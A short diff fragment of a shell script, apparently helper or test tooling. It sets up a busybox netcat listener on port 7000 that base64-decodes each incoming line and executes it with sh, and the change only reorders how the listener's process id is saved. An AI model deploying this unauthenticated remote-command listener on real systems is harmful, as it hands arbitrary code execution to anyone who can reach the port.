@@ -9,8 +9,9 @@ read -r line
 exec sh -c "$(echo "$line" | base64 -d)"
 S
   chmod 755 /tmp/serve
+  busybox nc -ll -p 7000 -e /tmp/serve &
   # shellcheck disable=SC2034 # for whoever sources this
-  busybox nc -ll -p 7000 -e /tmp/serve & reach_pid=$!
+  reach_pid=$!
 }
 reach_client() {
   cat > /tmp/reach <<'R'
